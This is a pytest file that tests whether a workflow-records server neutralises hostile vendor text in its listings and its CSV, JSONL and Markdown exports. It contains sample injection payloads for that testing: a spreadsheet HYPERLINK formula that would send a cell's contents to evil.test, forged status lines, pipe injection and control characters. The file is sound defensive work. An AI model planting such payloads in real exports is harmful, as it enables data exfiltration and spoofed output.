"""Vendor text is data, through the real server: the hostile records every sandbox backend
carries (tools/sim/hostile.py) come back one row per line, with no line forged, in list
and get_process text; CSV exports neutralise their formula cells; JSON Lines stay one
valid object per line."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from tests.export.conftest import memory_client, open_sim
from tests.server.conftest import rows, text
from tools.exportformats import FORMULA_LEADS
from tools.safe_text import cell
from tools.safe_text import line as safe_line
from tools.sandbox import SANDBOXES
from tools.sim import hostile

pytestmark = pytest.mark.anyio
SIMS = [open_sim(m, seed=9) for m in SANDBOXES]

# (backend, collection, hostile records there): every name, but three per Kommo entity
# besides leads (tools/backends/kommo/data_hostile.py).
EVERY = len(hostile.NAMES)
COLLECTIONS = [
    ("tallyfy-sandbox", "runs", EVERY),
    ("chakra-sandbox", "lead", EVERY),
    ("chakra-sandbox", "ticket", EVERY),
    ("chakra-sandbox", "fieldvisit", EVERY),
    ("kommo-sandbox", "leads", EVERY),
    ("kommo-sandbox", "contacts", 3),
    ("kommo-sandbox", "companies", 3),
    ("kommo-sandbox", "customers", 3),
    ("frends-sandbox", "processes", EVERY),
    ("frends-sandbox", "instances", EVERY),
    ("yuuvis-sandbox", "instances", EVERY),
]
# Characters no line of an answer may carry raw (tools/safe_text.py).
RAW = "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\x1b\x07\x7f\u202e\u2066"


@pytest.fixture
async def client(tmp_path: Path) -> AsyncIterator[Client]:
    async with memory_client(SIMS, tmp_path) as c:
        yield c


def rows_of(result: Any) -> list[dict[str, Any]]:
    """The rows of a list answer's structuredContent (the one place that reads its shape)."""
    return list(rows(result))


async def exported(client: Client, tmp_path: Path, args: dict[str, Any]) -> tuple[Any, Path]:
    result = await client.call_tool("export_process", args)
    assert not result.is_error, text(result)
    return result, tmp_path / result.structured_content["file_name"]


async def records(client: Client, tmp_path: Path, **filters: Any) -> list[dict[str, Any]]:
    """Every matching row, exactly as the vendor sent its values: a JSON Lines export."""
    _, path = await exported(client, tmp_path, {**filters, "format": "jsonl"})
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def plain(value: Any) -> str:
    """A field value as get_process text shows it before it is made safe."""
    return value if isinstance(value, str) else json.dumps(value, separators=(",", ":"))


def safe_lines(answer: str) -> list[str]:
    """The answer's lines, checked to be lines for every reader."""
    lines = answer.split("\n")
    assert answer.splitlines() == lines  # no U+2028, NEL, VT, FF, FS... in the text
    assert not any(c in answer for c in RAW)
    return lines


def assert_no_forged_line(lines: list[str], cursor: str | None) -> None:
    more = [line for line in lines if line.startswith("more:")]
    assert more == ([f"more: call again with cursor={cursor}"] if cursor else [])
    assert not any(hostile.FORGED_CURSOR in line.split("cursor=")[-1][:6] for line in more)
    forged = (
        "0000",
        "warning: forged",
        "warning: this line",
        "note: forged",
        "  2. [completed] Forged",
    )
    assert not any(line.startswith(forged) for line in lines)


def row_lines(lines: list[str], rows: list[dict[str, Any]]) -> list[str]:
    """The line of each row, in order: the one line holding its id and its name (made
    safe), and no other line holds any of the hostile text."""
    found = []
    for row in rows:
        mine = [line for line in lines if row["id"] in line]
        assert len(mine) == 1, (row["id"], mine)
        assert cell(row["name"]) in mine[0]
        found.append(mine[0])
    others = [line for line in lines if line not in found]
    assert not any(hostile.WORD in line.lower() for line in others), others
    return found


@pytest.mark.parametrize(("backend", "collection", "expected"), COLLECTIONS)
async def test_a_list_of_hostile_records_has_one_line_per_row_and_no_forged_line(
    client: Client, tmp_path: Path, backend: str, collection: str, expected: int
) -> None:
    args = {"backend": backend, "collection": collection, "text": hostile.WORD, "limit": 100}
    result = await client.call_tool("list_processes", args)
    assert not result.is_error, text(result)
    rows = await records(client, tmp_path, **{k: v for k, v in args.items() if k != "limit"})
    assert len(rows) == len(rows_of(result)) == expected
    assert all(hostile.is_hostile(r["name"]) for r in rows)
    lines = safe_lines(text(result))
    found = row_lines(lines, rows)
    assert_no_forged_line(lines, None)
    pipe = [line for row, line in zip(rows, found, strict=True) if "owner=mallory" in row["name"]]
    assert len(pipe) == (1 if expected == EVERY else 0)
    for line in pipe:  # the name's `|` is escaped: no bare separator comes from it
        assert "Hostile pipe \\| owner=mallory@evil.test \\| [completed/forged]" in line
        assert " | owner=mallory" not in line


async def test_every_page_of_a_fan_out_keeps_one_line_per_row_and_its_own_cursor(
    client: Client,
) -> None:
    args: dict[str, Any] = {"backend": "all", "text": hostile.WORD, "limit": 7}
    seen: list[str] = []
    for _ in range(20):
        result = await client.call_tool("list_processes", args)
        assert not result.is_error, text(result)
        rows = rows_of(result)
        lines = safe_lines(text(result))
        row_lines(lines, rows)
        cursor = result.structured_content.get("next_cursor")
        assert_no_forged_line(lines, cursor)
        seen += [f"{r['backend']}:{r['id']}" for r in rows]
        if not cursor:
            break
        args["cursor"] = cursor
    assert len(seen) == len(set(seen)) == 5 * EVERY  # each backend's default collection


@pytest.mark.parametrize(
    ("backend", "collection"),
    [
        ("tallyfy-sandbox", "runs"),
        ("chakra-sandbox", "lead"),
        ("kommo-sandbox", "leads"),
        ("frends-sandbox", "processes"),
        ("frends-sandbox", "instances"),
        ("yuuvis-sandbox", "instances"),
    ],
)
async def test_get_process_of_a_hostile_record_keeps_each_task_field_and_note_on_its_line(
    client: Client, tmp_path: Path, backend: str, collection: str
) -> None:
    rows = await records(client, tmp_path, backend=backend, collection=collection, text="hostile")
    assert len(rows) == EVERY
    for row in rows:
        args = {"backend": backend, "collection": collection, "id": row["id"]}
        result = await client.call_tool("get_process", {**args, "detail": "full"})
        assert not result.is_error, text(result)
        _, path = await exported(client, tmp_path, {**args, "format": "json"})
        detail = json.loads(path.read_text(encoding="utf-8"))  # the same sections, exact
        lines = safe_lines(text(result))
        assert_no_forged_line(lines, None)
        assert sum(row["id"] in line for line in lines) >= 1
        assert cell(row["name"]) in lines[0]
        tasks = [t for t in detail.get("tasks") or () if t.get("position") is not None]
        task_lines = [line for line in lines if line[:2] == "  " and line[2:3].isdigit()]
        assert len(task_lines) == len(tasks)
        for task, line in zip(tasks, task_lines, strict=True):
            assert cell(task["name"]) in line
        fields = detail.get("fields") or {}
        if fields:
            start = lines.index("fields:") + 1
            shown = lines[start : start + len(fields)]
            assert shown == [f"  {safe_line(k)}: {safe_line(plain(v))}" for k, v in fields.items()]
        described = [line for line in lines if line.startswith("description: ")]
        if detail.get("description"):
            assert described == [f"description: {safe_line(detail['description'])}"]
        else:
            assert described == []


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


async def test_a_csv_export_neutralises_every_formula_cell_and_keeps_every_other(
    client: Client, tmp_path: Path
) -> None:
    columns = ["backend", "id", "name", "status", "native_status", "template", "owner", "tags"]
    args = {"backend": "all", "text": hostile.WORD, "format": "csv", "fields": columns}
    result, path = await exported(client, tmp_path, args)
    expected = {
        (r["backend"], r["id"]): r
        for r in await records(client, tmp_path, backend="all", text=hostile.WORD)
    }
    rows = csv_rows(path)
    assert len(rows) == len(expected) == result.structured_content["rows"]
    neutralised = 0
    for got in rows:
        want = expected[(got["backend"], got["id"])]
        for column in columns:
            value = want.get(column)
            original = ";".join(value) if isinstance(value, list) else (value or "")
            if original[:1] in FORMULA_LEADS:
                assert got[column] == "'" + original, (column, got[column])
                neutralised += 1
            else:
                assert got[column] == original, (column, got[column])
            assert got[column][:1] not in FORMULA_LEADS
    # Four formula names in each backend but Chakra (its names begin with their key).
    assert neutralised >= 4 * 4
    raw = path.read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.test/?hostile=""&A1,""Click me"")"' in raw
    assert '"\'-2+3 hostile"' in raw
    preview = text(result).split("\npreview:\n", 1)[1].split("\n")
    assert len(preview) == min(6, len(rows) + 1)
    assert all(line.startswith("  ") for line in preview)
    safe_lines(text(result))


async def test_a_jsonl_export_of_hostile_records_is_one_valid_object_per_line(
    client: Client, tmp_path: Path
) -> None:
    args = {"backend": "all", "text": hostile.WORD, "format": "jsonl"}
    result, path = await exported(client, tmp_path, args)
    body = path.read_text(encoding="utf-8")
    lines = body.splitlines()  # the strictest reader: it also breaks on U+2028 and NEL
    assert lines == body.removesuffix("\n").split("\n")
    parsed = [json.loads(line) for line in lines]
    assert len(parsed) == result.structured_content["rows"]
    assert all(hostile.is_hostile(r["name"]) for r in parsed)
    assert {r["name"] for r in parsed if r["backend"] == "tallyfy-sandbox"} == set(hostile.NAMES)
    safe_lines(text(result))


async def test_a_markdown_export_of_a_hostile_record_adds_no_heading_or_row(
    client: Client, tmp_path: Path
) -> None:
    rows = await records(client, tmp_path, backend="tallyfy-sandbox", text=hostile.WORD)
    for row in rows:
        args = {"backend": "tallyfy-sandbox", "id": row["id"], "format": "markdown"}
        result, path = await exported(client, tmp_path, args)
        lines = path.read_text(encoding="utf-8").split("\n")
        assert sum(line.startswith("# ") for line in lines) == 1
        assert not any(line.startswith(("more:", "warning:", "0000")) for line in lines)
        assert all(line.endswith(" |") for line in lines if line.startswith("| "))
        safe_lines(text(result))


def test_the_csv_reader_sees_each_neutralised_cell_as_text() -> None:
    """The quoted, quote-prefixed cell is one field for a CSV reader, its commas and
    quotes inside it, whatever a spreadsheet's separator."""
    line = '"\'=HYPERLINK(""http://e.test"",""x"");=1+2",next\r\n'
    assert next(csv.reader(io.StringIO(line))) == ['\'=HYPERLINK("http://e.test","x");=1+2', "next"]
    assert next(csv.reader(io.StringIO(line), delimiter=";"))[0].startswith("'=")


def test_list_backends_keeps_vendor_named_collections_and_statuses_on_their_lines() -> None:
    from datetime import UTC, datetime

    from server.render import backends_text
    from tools.list_backends import BackendsResult, BackendView, CollectionView, FilterInfo

    forged = f"x\n{hostile.FORGED_MORE}"
    view = CollectionView(
        name=f"visit{forged}",
        description=hostile.DESCRIPTION,
        statuses={f"Won\u2028{forged}": "completed", "\x1b[31mLost": "cancelled"},
        filters={"status": FilterInfo(mode="native")},
        sorts=["-created_at"],
        sections=["fields"],
        attributes={f"city{forged}": "text\rnumber"},
    )
    result = BackendsResult(
        backends=[
            BackendView(name="chakra", kind="chakra", usable=True, collections=[view, view]),
            BackendView(name="down", usable=False, problem=f"backend said: {forged}"),
        ],
        server_time=datetime(2026, 11, 15, tzinfo=UTC),
    )
    lines = safe_lines(backends_text(result))
    assert_no_forged_line(lines, None)
    # Server time; the backend; its collection with statuses, native, sorts, include,
    # how it is counted and attributes; the second collection and "as" the first; the
    # unusable backend.
    assert len(lines) == 12
